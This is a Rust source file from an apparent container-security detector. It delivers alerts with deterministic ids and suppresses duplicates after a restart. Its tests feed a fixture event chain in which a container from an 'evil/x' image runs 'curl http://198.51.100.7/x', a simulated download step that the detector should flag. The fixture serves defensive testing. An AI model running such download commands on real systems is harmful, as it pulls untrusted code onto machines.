//! The engine and the delivery of what it raises: every alert gets its deterministic
//! id, is counted, and goes to the sink, unless it was already sent before a restart
//! (the service replays from its checkpoint, and the engine raises again what it raised
//! before; the ids say which those are).

use crate::baseline::ScanBaseline;
use pullwatch_engine::config::Config;
use pullwatch_engine::stats::EngineStats;
use pullwatch_engine::Engine;
use pullwatch_model::{Alert, Event, Ts};
use pullwatch_report::{alert_id, AlertSink, ScanSummary};
use std::collections::{HashMap, VecDeque};
use std::io;

/// An alert id with the event time it was raised at, so that the ids a checkpoint
/// keeps can expire with the window they could be raised again in.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct SentAlert {
    pub id: String,
    /// Nanoseconds since the epoch: exact, unlike a rendered time.
    #[serde(with = "ts_nanos")]
    pub time: Ts,
}

mod ts_nanos {
    use pullwatch_model::Ts;
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(t: &Ts, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_i64(t.0)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Ts, D::Error> {
        i64::deserialize(d).map(Ts)
    }
}

pub struct Detector {
    engine: Engine,
    raised: Vec<Alert>,
    /// Sent before a restart: raised again by the replay, never sent again.
    already_sent: HashMap<String, Ts>,
    /// Sent by this process, in order, while a checkpoint may need them.
    sent: VecDeque<SentAlert>,
    /// Sent since the last [`Detector::take_fresh`].
    fresh: Vec<SentAlert>,
    remember_sent: bool,
    delivered: u64,
    suppressed: u64,
    /// What was read, skipped, dropped and raised: the scan summary, the service's
    /// metrics.
    pub summary: ScanSummary,
    /// The counts of the engines this detector's replaced (see [`Detector::succeed`]).
    earlier: EngineStats,
}

impl Detector {
    /// The engine with content inspection (user data, download-and-execute command
    /// lines) and, when given, the baseline's view of images seen before.
    pub fn new(cfg: Config, baseline: Option<&ScanBaseline>) -> Detector {
        let mut engine = Engine::with_inspector(
            cfg,
            Box::new(pullwatch_decode::user_data::ContentInspection::default()),
        );
        if let Some(b) = baseline {
            engine = engine.with_provenance(b.view());
        }
        Detector {
            engine,
            raised: Vec::new(),
            already_sent: HashMap::new(),
            sent: VecDeque::new(),
            fresh: Vec::new(),
            remember_sent: false,
            delivered: 0,
            suppressed: 0,
            summary: ScanSummary::default(),
            earlier: EngineStats::default(),
        }
    }

    /// Takes over from `old`, whose correlation state is dropped (a Kafka member
    /// rebuilds it on every rebalance): the summary's counters go on from `old`'s.
    pub fn succeed(&mut self, old: &mut Detector) {
        old.refresh_summary();
        self.summary = std::mem::take(&mut old.summary);
        self.earlier = std::mem::take(&mut self.summary.engine);
        self.refresh_summary();
    }

    /// Keeps the ids of the alerts it sends, for [`Detector::sent_since`] (a service's
    /// checkpoints). A scan does not need them.
    pub fn remember_sent(&mut self) {
        self.remember_sent = true;
    }

    /// Alerts with these ids were sent before a restart: the replay raises them again
    /// and they are counted as suppressed instead of sent twice.
    pub fn suppress(&mut self, sent: impl IntoIterator<Item = SentAlert>) {
        for s in sent {
            let new = self.already_sent.insert(s.id.clone(), s.time).is_none();
            if new && self.remember_sent {
                self.sent.push_back(s);
            }
        }
    }

    pub fn engine(&self) -> &Engine {
        &self.engine
    }

    pub fn push(&mut self, ev: Event, sink: &mut dyn AlertSink) -> io::Result<()> {
        self.engine.push(ev, &mut self.raised);
        self.deliver(sink)
    }

    /// Moves event time when the inputs are quiet (see [`Engine::advance_to`]).
    pub fn advance_to(&mut self, t: Ts, sink: &mut dyn AlertSink) -> io::Result<()> {
        self.engine.advance_to(t, &mut self.raised);
        self.deliver(sink)
    }

    /// End of input: everything held is correlated, and the summary takes the engine's
    /// counts.
    pub fn finish(&mut self, sink: &mut dyn AlertSink) -> io::Result<()> {
        self.engine.finish(&mut self.raised);
        self.deliver(sink)?;
        sink.flush()?;
        self.refresh_summary();
        Ok(())
    }

    /// Copies the engine's counters into the summary (cheap enough for a metrics
    /// scrape, not for every record).
    pub fn refresh_summary(&mut self) {
        self.summary.engine = self.engine.stats();
        self.summary.engine.carry(&self.earlier);
        self.summary.provenance = self.engine.provenance().stats().clone();
    }

    /// Alerts sent (not counting suppressed ones).
    pub fn delivered(&self) -> u64 {
        self.delivered
    }

    /// Alerts raised again by a replay and not sent, because they had been.
    pub fn suppressed(&self) -> u64 {
        self.suppressed
    }

    /// The ids sent (before or since a restart) at or after `horizon`; older ones are
    /// forgotten, since a replay from the checkpoint can no longer raise them.
    pub fn sent_since(&mut self, horizon: Ts) -> Vec<SentAlert> {
        while self.sent.front().is_some_and(|s| s.time < horizon) {
            if let Some(s) = self.sent.pop_front() {
                self.already_sent.remove(&s.id);
            }
        }
        self.sent.iter().cloned().collect()
    }

    /// The alerts sent since the last call, for a journal that must hold them before
    /// the next checkpoint.
    pub fn take_fresh(&mut self) -> Vec<SentAlert> {
        std::mem::take(&mut self.fresh)
    }

    fn deliver(&mut self, sink: &mut dyn AlertSink) -> io::Result<()> {
        if self.raised.is_empty() {
            return Ok(());
        }
        for a in self.raised.drain(..) {
            let id = alert_id(&a);
            if self.already_sent.contains_key(&id) {
                self.suppressed += 1;
                continue;
            }
            self.summary.count_alert(&a);
            sink.emit(&a, &id)?;
            self.delivered += 1;
            if self.remember_sent {
                let s = SentAlert { id, time: a.time };
                self.fresh.push(s.clone());
                self.sent.push_back(s);
            }
        }
        sink.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pullwatch_decode::{DecodeOptions, DecodeStats, EventStream};
    use pullwatch_report::CollectSink;
    use std::sync::Arc;

    const CHAIN: &str = r#"{"Type":"image","Action":"pull","Actor":{"ID":"evil/x:1","Attributes":{"name":"evil/x"}},"time":1795165200,"timeNano":1795165200000000000}
{"Type":"container","Action":"create","Actor":{"ID":"3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d","Attributes":{"image":"evil/x:1","name":"c"}},"time":1795165202,"timeNano":1795165202000000000}
{"Type":"container","Action":"start","Actor":{"ID":"3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d","Attributes":{"image":"evil/x:1","name":"c"}},"time":1795165203,"timeNano":1795165203000000000}
{"Type":"container","Action":"exec_start: curl http://198.51.100.7/x","Actor":{"ID":"3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d","Attributes":{"image":"evil/x:1","name":"c"}},"time":1795165210,"timeNano":1795165210000000000}
"#;

    fn events() -> Vec<Event> {
        let mut s = EventStream::detached(Arc::from("d.jsonl"), DecodeOptions::default());
        let (mut out, mut stats) = (Vec::new(), DecodeStats::default());
        s.decode_lines(CHAIN.as_bytes(), 1, &mut out, &mut stats);
        assert_eq!(stats.skipped_total(), 0);
        out
    }

    fn run(d: &mut Detector, sink: &mut CollectSink) {
        for ev in events() {
            d.push(ev, sink).unwrap();
        }
        d.finish(sink).unwrap();
    }

    #[test]
    fn an_alert_sent_before_a_restart_is_suppressed_on_replay() {
        let mut first = Detector::new(Config::default(), None);
        first.remember_sent();
        let mut sink = CollectSink::default();
        run(&mut first, &mut sink);
        assert_eq!(sink.alerts.len(), 1);
        let sent = first.sent_since(Ts::MIN);
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].id, alert_id(&sink.alerts[0]));

        let mut again = Detector::new(Config::default(), None);
        again.suppress(sent);
        let mut sink2 = CollectSink::default();
        run(&mut again, &mut sink2);
        assert!(sink2.alerts.is_empty());
        assert_eq!((again.delivered(), again.suppressed()), (0, 1));
    }

    #[test]
    fn quiet_inputs_release_a_held_chain_when_time_is_advanced() {
        let mut d = Detector::new(Config::default(), None);
        let mut sink = CollectSink::default();
        let evs = events();
        let last = evs.last().map(|e| e.time).unwrap();
        for ev in evs {
            d.push(ev, &mut sink).unwrap();
        }
        // The exec waits for the allowed lateness (2m by default) of event time.
        assert!(sink.alerts.is_empty());
        d.advance_to(Ts(last.0 + 60 * 1_000_000_000), &mut sink)
            .unwrap();
        assert!(sink.alerts.is_empty());
        d.advance_to(Ts(last.0 + 121 * 1_000_000_000), &mut sink)
            .unwrap();
        assert_eq!(sink.alerts.len(), 1);
        assert_eq!(sink.alerts[0].rule, "an0691.chain");
    }

    #[test]
    fn ids_older_than_the_horizon_are_forgotten() {
        let mut d = Detector::new(Config::default(), None);
        d.remember_sent();
        d.suppress([
            SentAlert {
                id: "a".into(),
                time: Ts(10),
            },
            SentAlert {
                id: "b".into(),
                time: Ts(20),
            },
        ]);
        let kept = d.sent_since(Ts(15));
        assert_eq!(kept.len(), 1);
        assert_eq!(kept[0].id, "b");
        assert!(!d.already_sent.contains_key("a"));
    }
}
